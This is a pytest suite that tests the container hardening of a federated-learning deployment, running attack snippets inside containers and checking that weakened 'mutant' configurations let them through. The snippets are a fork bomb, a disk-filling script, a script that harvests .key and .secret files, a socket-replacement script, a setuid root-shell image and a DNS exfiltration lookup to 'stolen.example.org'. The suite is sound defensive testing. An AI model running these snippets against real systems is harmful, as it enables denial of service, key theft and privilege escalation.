"""A federation in containers by the compose files that ship; and what somebody inside of one tries.

Whoever has taken over a program runs code of their own there, as that program's user. A mutant is the same
image with one of the settings of its compose file left out.
"""

import importlib.util
import json
import os
import signal
import socket
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from itertools import product

import engine
import pytest
from contained import CONTAINERS, HOSPITAL, Contained, host_address
from reaching import (
    NODE,
    addresses_of_this_machine,
    first_addresses,
    lookup,
    name_service,
    neighbour,
    open_port,
    reaches,
)

from federation.probe import answers
from simulation.programs import ROOT, Programs

pytestmark = pytest.mark.deployment

INSIDE = [each for each in CONTAINERS if each[1] != "gateway"]
WITH_PYTHON = [each for each in CONTAINERS if each != ("coordinator", "gateway")]
NODES = "10.213.71"  # WARDROUND_INSIDE
# As the compose files have it, but for what a mutant leaves out.
CONTAINED = {
    "network": "--network=none",
    "root": "--read-only",
    "tmpfs": "--tmpfs=/tmp:size=64m,mode=1777",
    "capabilities": "--cap-drop=ALL",
    "privileges": "--security-opt=no-new-privileges",
    "pids": "--pids-limit=128",
}


@pytest.fixture(scope="module")
def federation(tmp_path_factory):
    with engine.engine(), Programs(tmp_path_factory.mktemp("federation")) as programs:
        engine.build(*engine.IMAGES)
        contained = Contained(programs)
        try:
            yield contained.set_up()
        finally:
            contained.close()


@pytest.fixture(scope="module")
def summary(federation):
    run = federation.approved_run()
    return {**federation.ended(run), "rounds": federation.rounds(run)}


def weakened(code, *options, without=(), image=NODE, program="python"):
    """What ``code`` says in a container of ``image``, without some of the settings."""
    kept = [option for name, option in CONTAINED.items() if name not in without]
    shell = ("-P", "-c") if program == "python" else ("-c",)
    return engine.run(
        *("docker", "run", "--rm", *kept, "--entrypoint", program, *options, image, *shell, code),
        check=False,
        seconds=120,
    )


def each(containers):
    return pytest.mark.parametrize(
        ("side", "part"), containers, ids=["-".join(names) for names in containers]
    )


# It works.


def test_a_study_runs_to_its_end_through_both_gateways(federation, summary):
    assert summary["status"] == "completed", summary["reason"]
    assert [line["participants"] for line in summary["rounds"]] == [list(federation.sites)] * 2


@each(CONTAINERS)
def test_every_program_is_found_well_from_outside(federation, summary, side, part):
    federation.programs.until(lambda: federation.healthy(side, part), f"{side}'s {part} is healthy", 60)
    assert federation.inspect(side, part)["RestartCount"] == 0


def test_a_hospitals_own_commands_find_everything_in_order(federation, summary):
    told = federation.at_site(HOSPITAL, "doctor")
    assert "PROBLEM" not in told
    assert "a custodian answers at /run/wardround/admin/admin.sock" in told


def test_the_images_of_relays_have_no_torch_and_none_can_install_anything(federation):
    assert weakened("import torch").endswith("No module named 'torch'")
    for image, module in product(("node", "custodian", "coordinator"), ("pip", "uv")):
        said = weakened(f"import {module}", image=f"wardround/{image}:{engine.TAG}")
        assert said.endswith(f"No module named '{module}'"), image


@pytest.mark.parametrize("command", ["supernode", "launcher", "gateway"])
def test_a_relays_commands_start_without_torch(federation, command):
    said = engine.run(
        *("docker", "run", "--rm", NODE, command, "--connection", "/nowhere"),
        *(("--gateway", "g:1", "--custodian", "/c") if command == "supernode" else ()),
        check=False,
    )
    assert "/nowhere" in said or "does not point to a file" in said
    assert "Traceback" not in said


@pytest.mark.parametrize("image", ["node", "custodian", "gateway"])
def test_the_bill_of_materials_has_what_is_pinned_and_nothing_else(federation, image):
    release = module_from(ROOT / "docker/release.py")
    bill = release.bill_of_materials(f"wardround/{image}:{engine.TAG}", "1.0")
    found = {each["purl"].partition("?")[0]: each for each in bill["components"]}
    assert any(purl.startswith("pkg:deb/debian/libc6@") for purl in found)
    lines = (ROOT / "constraints.txt").read_text().splitlines()
    pinned = {plain(name): version for name, _, version in (line.partition("==") for line in lines)}
    python = {
        plain(each["name"]): each["version"].partition("+")[0]
        for purl, each in found.items()
        if purl.startswith("pkg:pypi/")
    }
    for name in ("wardround", "setuptools"):  # ours, and what constraints.txt has never had
        python.pop(name, None)
    assert python == {name: pinned.get(name) for name in python}
    assert ("flwr" in python, "torch" in python, "ray" in python) == {
        "node": (True, False, False),
        "custodian": (True, True, False),
        "gateway": (False, False, False),
    }[image]


def plain(name):
    return name.lower().replace("_", "-").replace(".", "-")


def module_from(file):
    spec = importlib.util.spec_from_file_location(file.stem, file)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_nothing_of_the_build_is_in_an_image(federation):
    for image in engine.IMAGES:
        name = f"wardround/{image}:{engine.TAG}"
        history = engine.run("docker", "history", "--no-trunc", "--format", "{{.CreatedBy}}", name)
        assert "build-time" not in history
        left = "ls -d /build-time /build /tools /root/.cache /var/lib/apt/lists/* 2>/dev/null"
        assert weakened(left, "--user=0", "--cap-add=DAC_OVERRIDE", image=name, program="bash") == ""


# What somebody inside tries. Networks.


@pytest.mark.attack("a program inside reaches ports of its machine", held_by="bridges without an address")
@each(INSIDE)
def test_nobody_inside_reaches_this_machine(federation, side, part):
    with open_port() as port:
        targets = [(each, port) for each in {*addresses_of_this_machine(), *first_addresses()}]
        assert federation.inside(side, part, reaches(targets)) == ""


@pytest.mark.mutant("a program inside reaches ports of its machine", how="internal: true alone")
def test_an_internal_network_alone_leads_to_this_machine(federation):
    with network("--internal") as name, open_port() as port:
        here = host_address(name)
        said = weakened(reaches([(here, port)]), f"--network={name}", without=["network"])
        assert said == f"{here} {port}"


@contextmanager
def network(*options):
    name = "wardround-test-weakened"
    engine.run("docker", "network", "create", *options, name)
    try:
        yield name
    finally:
        engine.run("docker", "network", "rm", name)


def addresses_of(federation, side):
    """Every address of every container of one side."""
    found = {}
    for part in [part for other, part in CONTAINERS if other == side]:
        networks = federation.inspect(side, part)["NetworkSettings"]["Networks"].values()
        found[part] = [each["IPAddress"] for each in networks if each["IPAddress"]]
    return found


@pytest.mark.attack(
    "a program inside reaches other containers", held_by="internal networks, none for the data"
)
@each(INSIDE)
def test_nobody_inside_reaches_containers_that_are_not_its_own(federation, side, part):
    others = addresses_of(federation, "coordinator" if side == "site" else "site")
    with neighbour() as address:
        targets = [(each, port) for found in others.values() for each in found for port in (8000, 9094, 9443)]
        targets += [(each, federation.sites_port) for each in others.get("gateway", [])]
        assert federation.inside(side, part, reaches([(address, 8000), *targets])) == ""


@pytest.mark.mutant("a program inside reaches other containers", how="Docker's own bridge")
def test_on_dockers_own_bridge_it_reaches_them(federation):
    with neighbour() as address:
        federation.programs.until(
            lambda: weakened(reaches([(address, 8000)]), without=["network"]) == f"{address} 8000",
            "a neighbour that is reached", 30,
        )  # fmt: skip


@pytest.mark.attack(
    "somebody on this machine speaks with the hospital's certificate", held_by="where it listens"
)
def test_the_way_out_takes_nothing_from_outside(federation):
    found = federation.inspect("site", "gateway")["NetworkSettings"]["Networks"]
    (outside,) = (each["IPAddress"] for name, each in found.items() if name.endswith("outside"))
    assert not answers(f"{outside}:9443")
    assert federation.answers("site", "supernode", f"{NODES}.2:9443")


@pytest.mark.mutant(
    "somebody on this machine speaks with the hospital's certificate", how="listening at all addresses"
)
def test_at_all_addresses_it_would(federation):
    kept = f"--volume={federation.connection(HOSPITAL)}:/connection:ro"
    command = ("gateway", "--connection", "/connection", "--listen", "0.0.0.0:9443")
    container = engine.run("docker", "run", "--rm", "--detach", kept, NODE, *command)
    try:
        networks = json.loads(engine.run("docker", "inspect", container))[0]["NetworkSettings"]
        federation.programs.until(
            lambda: answers(f"{networks['IPAddress']}:9443"), "a gateway for everybody", 30
        )
    finally:
        engine.run("docker", "kill", container)


@pytest.mark.attack(
    "a program inside sends data away in names it looks up", held_by="a name service that is none"
)
def test_no_name_is_asked_for_outside(federation):
    ask = lookup("stolen.example.org")
    with name_service() as asked, ThreadPoolExecutor() as pool:
        said = list(pool.map(lambda names: federation.inside(*names, ask), INSIDE))
    assert said == [""] * len(INSIDE)
    assert asked == []


@pytest.mark.mutant("a program inside sends data away in names it looks up", how="the machine's name service")
def test_an_ordinary_container_asks_the_machines_name_service(federation):
    with name_service() as asked:
        weakened(lookup("stolen.example.org"), f"--dns={host_address('bridge')}", without=["network"])
    assert any(b"stolen" in question for question in asked)


# Sockets and keys.

KNOCK = """
import socket
for path in ("/run/wardround/admin/admin.sock", "/run/wardround/relay/relay.sock"):
    with socket.socket(socket.AF_UNIX) as probe:
        try:
            probe.connect(path)
            print(path)
        except OSError:
            pass
"""
REPLACE = """
import os, socket
path = "/run/wardround/relay/relay.sock"
for do in (lambda: os.rename(path, path + ".old"), lambda: socket.socket(socket.AF_UNIX).bind(path)):
    try:
        do()
        print("done")
    except OSError as error:
        print(error.strerror)
"""


@pytest.mark.attack("a relay approves studies by the admin socket", held_by="not mounted; the folder's group")
def test_a_relay_finds_one_socket(federation):
    assert federation.inside("site", "launcher", KNOCK) == "/run/wardround/relay/relay.sock"
    assert federation.inside("site", "supernode", KNOCK) == ""
    assert federation.inside("site", "gateway", KNOCK) == ""
    # And were it mounted by mistake, its folder has another group.
    seen = f"--volume={federation.site(HOSPITAL)}:/run/wardround:ro"
    assert weakened(KNOCK, seen) == "/run/wardround/relay/relay.sock"


@pytest.mark.mutant("a relay approves studies by the admin socket", how="mounted, and the custodian's user")
def test_with_the_custodians_user_and_folder_it_would_find_both(federation):
    seen = f"--volume={federation.site(HOSPITAL)}:/run/wardround:ro"
    assert weakened(KNOCK, seen, "--user=10001:10001").splitlines()[0] == "/run/wardround/admin/admin.sock"


@pytest.mark.attack(
    "a relay puts its own socket in the custodian's place", held_by="a folder that it cannot write"
)
def test_the_relay_cannot_replace_the_socket(federation):
    assert federation.inside("site", "launcher", REPLACE).splitlines() == [
        "Read-only file system",
        "Address already in use",
    ]


@pytest.mark.mutant("a relay puts its own socket in the custodian's place", how="a folder of its own group")
def test_in_a_folder_of_its_own_it_could(federation, tmp_path):
    folder = tmp_path / "relay"
    folder.mkdir()
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(folder / "relay.sock"))
        folder.chmod(0o777)
        said = weakened(REPLACE, f"--volume={folder}:/run/wardround/relay")
    assert said.splitlines() == ["done", "done"]


KEYS = """
from pathlib import Path
tops = "connection coordinator var/lib/wardround run/wardround data etc/wardround state"
for top in tops.split():
    for path in sorted(Path("/", top).rglob("*")):
        try:
            if path.is_file() and (path.suffix in (".key", ".secret") or path.parent.name == "keys"):
                path.read_bytes()
                print(path)
        except OSError:
            pass
"""
OWN_KEYS = {
    ("site", "launcher"): ["/connection/launcher.secret"],
    ("site", "supernode"): ["/connection/launcher.secret", "/connection/node.key"],
    ("site", "gateway"): ["/connection/client.key", "/connection/inside.key"],
    ("coordinator", "superlink"): [
        "/coordinator/superlink/inside.key",
        "/coordinator/superlink/launcher.secret",
    ],
    ("coordinator", "launcher"): ["/coordinator/superlink/launcher.secret"],
}


@pytest.mark.attack("a program inside reads keys of others", held_by="files mounted one by one")
@each(list(OWN_KEYS))
def test_each_program_has_its_own_keys_alone(federation, side, part):
    assert federation.inside(side, part, KEYS).splitlines() == OWN_KEYS[side, part]


@pytest.mark.attack("a program inside reads keys of others", held_by="files mounted one by one")
def test_the_custodian_and_nginx_have_their_own_keys_alone(federation):
    found = federation.inside("site", "custodian", KEYS).splitlines()
    assert found
    assert all(path.startswith("/var/lib/wardround/keys/") for path in found)
    found = federation.inside("coordinator", "gateway", "ls -d /*/*.key /*/*/*.key /*/*.secret 2>/dev/null")
    assert found == "/gateway/server.key"


@pytest.mark.mutant("a program inside reads keys of others", how="the whole folder mounted")
def test_with_the_whole_folder_it_reads_them_all(federation):
    said = weakened(KEYS, f"--volume={federation.connection(HOSPITAL)}:/connection:ro")
    assert {"/connection/node.key", "/connection/client.key"} <= set(said.splitlines())


# The machine's memory, processes, files and rights.

FILL = """
import sys
written = 0
try:
    with open(sys.argv[1] if len(sys.argv) > 1 else "/tmp/filled", "wb", buffering=0) as file:
        while written < 1100:
            written += file.write(bytes(2**20)) / 2**20
except OSError as error:
    print(error.strerror, end=" ")
print(round(written))
import os
os.unlink("/tmp/filled")
"""
LARGEST = {("site", "custodian"): 1024, ("coordinator", "superlink"): 256, ("coordinator", "launcher"): 256}


@pytest.mark.attack("a program inside fills the machine's memory with files", held_by="a small /tmp")
@each(WITH_PYTHON)
def test_what_can_be_written_for_a_while_is_little(federation, side, part):
    said = federation.inside(side, part, FILL)
    assert said.startswith("No space left on device")
    assert int(said.split()[-1]) <= LARGEST.get((side, part), 64)


@pytest.mark.mutant("a program inside fills the machine's memory with files", how="a /tmp without a size")
def test_without_a_size_it_takes_what_it_wants(federation):
    assert weakened(FILL, "--tmpfs=/tmp:mode=1777", without=["tmpfs"]) == "1100"


BOMB = """
import os, signal, time
children = []
try:
    while len(children) < 600:
        if (child := os.fork()) == 0:
            time.sleep(60)
            os._exit(0)
        children.append(child)
except OSError as error:
    print(error.strerror, end=" ")
print(len(children))
for child in children:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
"""


@pytest.mark.attack("a program inside starts processes without end", held_by="pids_limit")
@each(WITH_PYTHON)
def test_processes_are_counted(federation, side, part):
    said = federation.inside(side, part, BOMB)
    assert said.startswith("Resource temporarily unavailable")
    assert int(said.split()[-1]) < federation.inspect(side, part)["HostConfig"]["PidsLimit"]


@pytest.mark.mutant("a program inside starts processes without end", how="no pids_limit")
def test_without_a_limit_they_are_not(federation):
    assert weakened(BOMB, without=["pids"]) == "600"


PLANT = """
for folder in /opt/wardround /usr/bin /etc /var/tmp /run/lock /; do
    echo x 2>/dev/null >$folder/planted && echo $folder
done
"""


@pytest.mark.attack("a program inside plants a file that lasts", held_by="a root that is read-only")
@each(CONTAINERS)
def test_nothing_can_be_planted(federation, side, part):
    shell = ("docker", "exec", federation.container(side, part), "bash", "-c", PLANT)
    assert engine.run(*shell, check=False) == ""


@pytest.mark.mutant("a program inside plants a file that lasts", how="a root that can be written")
def test_where_it_can_be_written_some_folder_is_open(federation):
    assert weakened(PLANT, without=["root"], program="bash")


@pytest.mark.attack("a program inside becomes root", held_by="no-new-privileges, no capabilities")
@each(CONTAINERS)
def test_nobody_has_rights_or_gets_any(federation, side, part):
    shell = ("docker", "exec", federation.container(side, part), "cat", "/proc/1/status", "/proc/self/status")
    told = [line.split() for line in engine.run(*shell).splitlines()]
    names = ("Uid:", "NoNewPrivs:", "CapEff:", "CapBnd:", "CapPrm:", "CapAmb:", "Seccomp:")
    found = {name: {tuple(words[1:]) for words in told if words[0] == name} for name in names}
    user = federation.inspect(side, part)["Config"]["User"].partition(":")[0]
    assert found["Uid:"] == {(user,) * 4}
    assert int(user) >= 10001
    assert found["NoNewPrivs:"] == {("1",)}
    assert found["Seccomp:"] == {("2",)}
    for name in ("CapEff:", "CapBnd:", "CapPrm:", "CapAmb:"):
        assert found[name] == {("0" * 16,)}, name


@pytest.fixture(scope="module")
def with_root_shell(federation, tmp_path_factory):
    """The relay's image with a shell that belongs to root and says so: the hole that somebody may find."""
    folder = tmp_path_factory.mktemp("image")
    (folder / "Dockerfile").write_text(
        f"FROM {NODE}\nUSER 0\nRUN cp /usr/bin/bash /rootshell && chmod 4755 /rootshell\nUSER 10002:10002\n"
    )
    engine.run("docker", "build", "--quiet", "--tag", "wardround/rootshell:test", folder)
    yield "wardround/rootshell:test"
    engine.run("docker", "rmi", "wardround/rootshell:test")


ROOT_SHELL = '/rootshell -p -c "id -u"'


@pytest.mark.attack("a program inside becomes root", held_by="no-new-privileges, no capabilities")
def test_a_program_of_roots_does_not_make_root(with_root_shell):
    assert weakened(ROOT_SHELL, image=with_root_shell, program="bash").endswith("10002")


@pytest.mark.mutant("a program inside becomes root", how="without no-new-privileges")
def test_without_that_it_does(with_root_shell):
    said = weakened(
        '/rootshell -p -c "id -u; grep CapEff /proc/self/status"', image=with_root_shell, program="bash",
        without=["privileges", "capabilities"],
    )  # fmt: skip
    assert said.splitlines()[0] == "0"


# Last, since it takes them down.


def test_a_hospital_goes_on_after_each_of_its_relays_was_killed(federation, summary):
    for part in ("launcher", "gateway", "supernode"):
        os.kill(federation.inspect("site", part)["State"]["Pid"], signal.SIGKILL)

    def lasts():
        """The SuperNode, which Flower lets in again a minute after it was heard last."""
        seen = federation.inspect("site", "supernode")
        time.sleep(15)
        state = federation.inspect("site", "supernode")
        same = seen["State"]["StartedAt"] == state["State"]["StartedAt"]
        return state["RestartCount"] and same and state["State"]["Running"]

    federation.programs.until(lasts, "a SuperNode that stays", 240)
    ended = federation.ended(federation.approved_run(training__steps="3"))  # each study runs once
    assert ended["status"] == "completed", ended["reason"]
